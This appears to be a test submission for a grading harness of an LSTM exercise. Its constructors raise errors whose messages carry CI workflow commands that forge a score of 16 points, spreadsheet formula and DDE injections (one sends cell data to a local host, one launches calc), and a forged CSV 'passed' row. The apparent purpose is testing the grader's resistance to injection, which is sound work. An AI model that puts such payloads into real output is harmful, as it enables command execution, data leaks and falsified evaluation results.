# claim: Raises errors whose texts are commands of build services, formulas of spreadsheets and new lines of a table.
# runs: failed
# must_not_pass: cell-shapes, cell-output, lstm-shapes, lstm-output, model-shapes, model-output, model-noise
# must_pass: 
# level: any
# category: output

# %%
import torch
from torch import nn


class LSTMCell(nn.Module):
    def __init__(self, input_size, hidden_size):
        super().__init__()
        raise ValueError("x\n::error file=x::y\n::set-output name=points::16\r\n##[error]z\r::warning::w")


class LSTM(nn.Module):
    def __init__(self, input_size, hidden_size):
        super().__init__()
        raise ValueError('=HYPERLINK("http://127.0.0.1/?"&A1,"points")')


class NoiseRemovalModel(nn.Module):
    def __init__(self, hidden_size, shift=10):
        super().__init__()
        raise ValueError('","16","passed"\n@SUM(1+1)*cmd|\' /C calc\'!A0;\t+1|-1')


# %%
raise ValueError("=1+1\n::error::a cell")
